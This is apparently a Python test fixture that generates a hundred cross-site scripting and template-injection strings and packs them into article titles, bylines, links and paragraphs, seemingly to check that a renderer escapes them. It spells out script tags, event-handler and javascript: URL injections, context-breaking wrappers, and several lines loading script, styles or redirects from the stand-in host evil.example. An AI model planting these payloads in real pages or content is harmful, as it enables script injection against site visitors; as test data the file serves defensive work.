"""A hundred texts that try to become script, styles, requests or templates on the page."""

from corpus.article import Article, Byline

_CALL = "alert(1)"
_ELEMENTS = (
    "<script>{}</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<img src=x onerror={}>",
    "<img src=http://evil.example/p.png>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video src=x onerror={}>", "<audio src=x onerror={}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<link rel=stylesheet href=http://evil.example/>",
    "<style>@import 'http://evil.example/x.css';</style>", "<meta http-equiv=refresh content='0;http://evil.example'>",
    "<base href=http://evil.example/>", "<form action=javascript:{}><button>go</button></form>",
    "<a href=javascript:{}>x</a>", "<math><a xlink:href=javascript:{}>x</a></math>", "<marquee onstart={}>",
)  # fmt: skip
_WRAPPERS = ("{}", "\"'>{}", "</title></textarea></style></script></option></select>{}", "--><!-- ]]>{}")
PAYLOADS = tuple(
    wrapper.format(element.replace("{}", _CALL)) + f" n{wrapped}x{place} {{{{{_CALL}}}}} ${{{_CALL}}}"
    for wrapped, wrapper in enumerate(_WRAPPERS)
    for place, element in enumerate(_ELEMENTS)
)


def payload_articles() -> tuple[Article, ...]:
    """An article for each payload as title, source and address, and one with all of them as paragraphs."""
    bylines = [Byline(text, text, None, f"javascript:{text}") for text in PAYLOADS]
    each = [Article(f"a{n}", "fr", byline, (f"Paragraphe {n}.",)) for n, byline in enumerate(bylines)]
    whole = Article("whole", "fr", Byline("Recueil complet", "Recueil", None, None), PAYLOADS)
    return (*each, whole)
